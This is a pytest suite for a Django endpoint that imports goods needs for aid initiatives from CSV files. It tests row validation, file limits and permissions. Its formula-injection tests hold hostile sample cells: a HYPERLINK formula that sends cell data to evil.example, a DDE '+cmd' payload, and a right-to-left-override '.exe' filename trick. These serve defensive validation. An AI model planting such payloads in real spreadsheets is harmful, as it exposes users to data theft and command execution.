"""CSV import of goods needs: all rows or none, every bad row named by its line."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Role
from api.imports import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS
from donations.models import GoodsNeed
from notifications.models import Notification
from tests.conftest import client_for
from tests.factories import MembershipFactory, OrganisationFactory, UserFactory

URL = "/api/v1/goods-needs/import/"
BOM = "\ufeff"

GOOD_ROWS = [
    "Winterjacken M;clothing-winter-jacket;20;Leipzig-Grünau;M;31.12.2030",
    "Kinderwagen;baby-stroller;2;04315 Leipzig;;",
    "Winterstiefel;shoes-winter-boots;3;Leipzig-Lindenau;;2030-11-30",
    '"Jacken ""warm; gefüttert""";clothing-winter-jacket;4;Leipzig-Grünau;l;',
]
HEADER = "title;category;quantity;address;size;deadline"


def _file(text: str, name: str = "needs.csv", encoding: str = "utf-8") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def _csv(*rows: str, header: str = HEADER, bom: bool = True) -> SimpleUploadedFile:
    return _file((BOM if bom else "") + "\r\n".join([header, *rows]) + "\r\n")


def _post(user, upload, language: str | None = None, **form):
    headers = {"HTTP_ACCEPT_LANGUAGE": language} if language else {}
    return client_for(user).post(URL, {"file": upload, **form}, format="multipart", **headers)


def _assert_nothing_written(callbacks):
    assert GoodsNeed.objects.count() == 0
    assert Notification.objects.count() == 0
    assert callbacks == []


@pytest.mark.django_db
def test_a_good_excel_file_with_semicolons_and_bom_creates_every_row(
    initiative_member, initiative, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks() as callbacks:
        response = _post(initiative_member, _csv(*GOOD_ROWS))
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["created"] == 4 and len(body["ids"]) == 4
    needs = {need.title: need for need in GoodsNeed.objects.filter(pk__in=body["ids"])}
    jackets = needs["Winterjacken M"]
    assert jackets.organisation == initiative and jackets.created_by == initiative_member
    assert jackets.attributes == {"size": "M"} and jackets.quantity_open == 20
    assert jackets.deadline.isoformat() == "2030-12-31" and jackets.district == "Grünau"
    assert needs["Kinderwagen"].attributes == {} and needs["Kinderwagen"].deadline is None
    assert needs['Jacken "warm; gefüttert"'].attributes == {"size": "L"}
    assert len(callbacks) == 4  # one matching task per need, after the commit


@pytest.mark.django_db
def test_a_file_with_commas_without_bom_and_an_attributes_column_is_read(initiative_member):
    upload = _csv(
        "Spielzeug,baby-toys,5,Leipzig-Grünau,age=1-3,",
        '"Kinderjacken, warm",clothing-children,6,04229 Leipzig,size=116|age=3-6,"2,5"',
        header="Titel,Kategorie,Menge,Adresse,Merkmale,max_distance_km",
        bom=False,
    )
    response = _post(initiative_member, upload)
    assert response.status_code == 201, response.content
    children = GoodsNeed.objects.get(title="Kinderjacken, warm")
    assert children.attributes == {"size": "116", "age": "3-6"}
    assert children.max_distance_km == 2.5


@pytest.mark.django_db
def test_bad_rows_are_listed_by_line_and_nothing_is_written(
    initiative_member, django_capture_on_commit_callbacks
):
    upload = _csv(
        GOOD_ROWS[0],  # line 2
        "Raumschiff;spaceship;1;Leipzig-Grünau;;",  # line 3: unknown category
        GOOD_ROWS[1],  # line 4
        "Decken;bedding-blanket;-2;Leipzig-Grünau;;",  # line 5: negative quantity
        "",  # line 6: blank lines are skipped but still counted
        "Betten;furniture-bed;2;Xyzzyville;;",  # line 7: no such place
        "Jacken;clothing-winter-jacket;2;Leipzig-Grünau;XXXXL;",  # line 8: no such size
        "Stiefel;shoes-winter-boots;2;Leipzig-Grünau;;1900-01-01",  # line 9: typo in the year
        GOOD_ROWS[2],  # line 10
    )
    with django_capture_on_commit_callbacks() as callbacks:
        response = _post(initiative_member, upload)
    assert response.status_code == 400, response.content
    rows = response.json()["rows"]
    assert [(row["line"], sorted(row["errors"])) for row in rows] == [
        (3, ["category"]),
        (5, ["quantity"]),
        (7, ["address"]),
        (8, ["attributes"]),
        (9, ["deadline"]),
    ]
    for row in rows:
        for messages in row["errors"].values():
            assert messages and all(isinstance(m, str) and m for m in messages)
    _assert_nothing_written(callbacks)


@pytest.mark.django_db
def test_one_bad_row_among_good_ones_writes_nothing(
    initiative_member, django_capture_on_commit_callbacks
):
    upload = _csv(*GOOD_ROWS, "Betten;furniture-bed;2;Xyzzyville;;", *GOOD_ROWS)
    with django_capture_on_commit_callbacks() as callbacks:
        response = _post(initiative_member, upload)
    assert response.status_code == 400
    [row] = response.json()["rows"]
    assert row["line"] == 6 and list(row["errors"]) == ["address"]
    _assert_nothing_written(callbacks)


@pytest.mark.django_db
def test_line_numbers_count_lines_of_the_file_even_inside_quoted_cells(initiative_member):
    upload = _csv(
        '"Jacken";clothing-winter-jacket;2;Leipzig-Grünau;M;',  # line 2
        '"Zwei\nZeilen";clothing-winter-jacket;2;Leipzig-Grünau;M;',  # lines 3-4
        "Decken;bedding-blanket;0;Leipzig-Grünau;;",  # line 5
    )
    response = _post(initiative_member, upload)
    assert [row["line"] for row in response.json()["rows"]] == [5]


@pytest.mark.django_db
def test_a_row_with_more_cells_than_the_header_is_a_bad_row(initiative_member):
    response = _post(initiative_member, _csv(GOOD_ROWS[0], GOOD_ROWS[1] + ";extra"), "en")
    assert response.status_code == 400
    assert response.json()["rows"] == [
        {"line": 3, "errors": {"non_field_errors": ["This row has more cells than the header."]}}
    ]


@pytest.mark.django_db
def test_the_errors_speak_the_users_language(initiative_member):
    response = _post(initiative_member, _csv("Decken;bedding-blanket;zwei;Leipzig-Grünau;;"))
    assert response.json()["rows"][0]["errors"]["quantity"] == [
        "Eine gültige Ganzzahl ist erforderlich."
    ]


# --- the file as a whole ------------------------------------------------------------------------


def _file_error(response) -> str:
    assert response.status_code == 400, response.content
    body = response.json()
    assert list(body) == ["file"] and len(body["file"]) == 1, body
    return body["file"][0]


@pytest.mark.django_db
def test_a_file_over_the_byte_limit_is_refused_before_it_is_read(initiative_member, monkeypatch):
    row = GOOD_ROWS[1]
    count = MAX_IMPORT_BYTES // len(row.encode()) + 1
    upload = _csv(*([row] * count))
    assert upload.size > MAX_IMPORT_BYTES

    def no_parsing(*args, **kwargs):
        raise AssertionError("an oversized file must not be parsed")

    monkeypatch.setattr("lifecycle.csv_import.csv.reader", no_parsing)
    message = _file_error(_post(initiative_member, upload, language="en"))
    assert "larger than 1000 kB" in message
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_file_over_the_row_limit_is_refused(initiative_member):
    upload = _csv(*([GOOD_ROWS[1]] * (MAX_IMPORT_ROWS + 1)))
    assert upload.size <= MAX_IMPORT_BYTES
    assert str(MAX_IMPORT_ROWS) in _file_error(_post(initiative_member, upload))
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_the_row_limit_counts_rows_not_blank_lines(initiative_member, monkeypatch):
    monkeypatch.setattr("lifecycle.csv_import.MAX_IMPORT_ROWS", 3)  # a thousand rows take seconds
    upload = _csv(GOOD_ROWS[0], "", GOOD_ROWS[1], ";;;;;", GOOD_ROWS[2])
    response = _post(initiative_member, upload)
    assert response.status_code == 201 and response.json()["created"] == 3
    upload = _csv(*GOOD_ROWS)
    assert "3" in _file_error(_post(initiative_member, upload))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text,words",
    [
        pytest.param("", "empty", id="empty"),
        pytest.param(BOM + "\r\n\r\n", "empty", id="only-blank-lines"),
        pytest.param(HEADER + "\r\n", "no rows", id="header-only"),
        pytest.param(
            "title;category;address\nJacken;clothing-winter-jacket;Leipzig-Grünau\n",
            "quantity",
            id="missing-column",
        ),
        pytest.param(HEADER + ";colour\n" + GOOD_ROWS[0] + ";red\n", "colour", id="unknown-column"),
        pytest.param("title;title;category;quantity;address\n", "title", id="column-named-twice"),
    ],
)
def test_a_file_that_cannot_be_read_as_a_whole_is_a_400_on_file(initiative_member, text, words):
    response = _post(initiative_member, _file(text), language="en")
    assert words in _file_error(response)
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_file_that_is_not_utf8_is_refused_with_a_hint(initiative_member):
    upload = _file(HEADER + "\n" + GOOD_ROWS[0] + "\n", encoding="cp1252")
    assert "UTF-8" in _file_error(_post(initiative_member, upload))


@pytest.mark.django_db
def test_without_a_file_it_is_a_400_on_file(initiative_member):
    response = client_for(initiative_member).post(URL, {}, format="multipart")
    assert response.status_code == 400 and "file" in response.json()


# --- who may import -----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.DONOR, Role.COORDINATOR, Role.INITIATIVE_MEMBER])
def test_only_members_of_an_initiative_may_import(role):
    user = UserFactory(role=role)  # an initiative member by role, but of no initiative
    response = _post(user, _csv(*GOOD_ROWS))
    assert response.status_code == 403
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_member_cannot_import_into_another_initiative(initiative_member):
    other = OrganisationFactory()
    response = _post(initiative_member, _csv(*GOOD_ROWS), organisation=other.pk)
    assert response.status_code == 403
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_member_of_two_initiatives_chooses_where_the_needs_go(initiative_member):
    second = OrganisationFactory()
    MembershipFactory(user=initiative_member, organisation=second)
    response = _post(initiative_member, _csv(*GOOD_ROWS), organisation=second.pk)
    assert response.status_code == 201
    assert set(GoodsNeed.objects.values_list("organisation", flat=True)) == {second.pk}


@pytest.mark.django_db
def test_anonymous_cannot_import():
    response = client_for(None).post(URL, {"file": _csv(*GOOD_ROWS)}, format="multipart")
    assert response.status_code == 401


# --- formulas, junk characters and oversized cells (issue 12) ---------------------------------

FORMULA = "formula"  # in the English message: "… a spreadsheet would run it as a formula …"


def _rows_of(response) -> dict[int, dict[str, list[str]]]:
    assert response.status_code == 400, response.content
    return {row["line"]: row["errors"] for row in response.json()["rows"]}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row,column",
    [
        pytest.param(
            '"=HYPERLINK(""http://evil.example/?""&A1,""Details"")";'
            "clothing-winter-jacket;2;Leipzig-Grünau;M;",
            "title",
            id="hyperlink",
        ),
        pytest.param(
            "Jacken;clothing-winter-jacket;2;\"+cmd|' /C calc'!A0\";M;", "address", id="plus-cmd"
        ),
        pytest.param("@SUM(1+1)*cmd;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="at"),
        pytest.param("-1+1;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="minus"),
        pytest.param("   =1+1;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title", id="spaces"),
        pytest.param('"\t=1+1";clothing-winter-jacket;2;Leipzig-Grünau;M;', "title", id="tab"),
        pytest.param('"\rJacken";clothing-winter-jacket;2;Leipzig-Grünau;M;', "title", id="cr"),
        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig-Grünau;=M;", "size", id="attribute"),
        pytest.param(
            "Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M;=TODAY()", "deadline", id="date"
        ),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_refused(
    initiative_member, row, column, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks() as callbacks:
        response = _post(initiative_member, _csv(GOOD_ROWS[0], row), language="en")
    errors = _rows_of(response)
    assert list(errors) == [3]
    assert list(errors[3]) == [column], errors
    assert FORMULA in errors[3][column][0]
    _assert_nothing_written(callbacks)


@pytest.mark.django_db
def test_numeric_cells_are_read_as_numbers_not_judged_as_formulas(initiative_member):
    upload = _csv(
        "Decken;bedding-blanket;-2;Leipzig-Grünau;;",
        header="title;category;quantity;address;size;max_distance_km",
    )
    errors = _rows_of(_post(initiative_member, upload, language="en"))
    assert list(errors[2]) == ["quantity"] and FORMULA not in errors[2]["quantity"][0]
    upload = _csv(
        "Decken;bedding-blanket;2;Leipzig-Grünau;;=1+1",
        header="title;category;quantity;address;size;max_distance_km",
    )
    errors = _rows_of(_post(initiative_member, upload, language="en"))
    assert list(errors[2]) == ["max_distance_km"]  # not a number, whatever else it is


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row,column",
    [
        pytest.param("Jacken\u202egpj.exe;clothing-winter-jacket;2;Leipzig-Grünau;M;", "title"),
        pytest.param("Jacken;clothing\x00;2;Leipzig-Grünau;M;", "category", id="nul-category"),
        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig\x1b[31m;M;", "address", id="escape"),
        pytest.param("Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M\x00;", "size", id="nul"),
    ],
)
def test_junk_characters_in_a_cell_are_a_row_message(initiative_member, row, column):
    errors = _rows_of(_post(initiative_member, _csv(row)))
    assert list(errors[2]) == [column], errors
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_cell_over_the_csv_modules_limit_is_a_row_message_not_a_server_error(
    initiative_member,
):
    huge = "x" * 131_073
    upload = _csv(GOOD_ROWS[0], f"{huge};clothing-winter-jacket;2;Leipzig-Grünau;M;")
    errors = _rows_of(_post(initiative_member, upload, language="en"))
    assert list(errors) == [3] and "characters" in errors[3]["non_field_errors"][0]
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_cell_or_a_row_over_its_limit_is_a_row_message(initiative_member):
    long_cell = "x" * 6_000
    long_row = ";".join(["Jacken", "clothing-winter-jacket", "2", "Leipzig-Grünau", "M", ""])
    long_row += ";" + ";".join(["y" * 4_000] * 6)
    upload = _csv(
        GOOD_ROWS[0],
        f"Jacken;clothing-winter-jacket;2;Leipzig-Grünau;M;{long_cell}",  # line 3
        long_row,  # line 4
    )
    errors = _rows_of(_post(initiative_member, upload, language="en"))
    assert list(errors[3]) == ["deadline"] and "5000 characters" in errors[3]["deadline"][0]
    assert list(errors[4]) == ["non_field_errors"]
    assert "20000 characters" in errors[4]["non_field_errors"][0]
    assert GoodsNeed.objects.count() == 0


@pytest.mark.django_db
def test_a_title_over_two_lines_is_kept_on_one(initiative_member):
    response = _post(
        initiative_member, _csv('"Zwei\nZeilen";clothing-winter-jacket;2;Leipzig-Grünau;M;')
    )
    assert response.status_code == 201, response.content
    assert GoodsNeed.objects.get().title == "Zwei Zeilen"
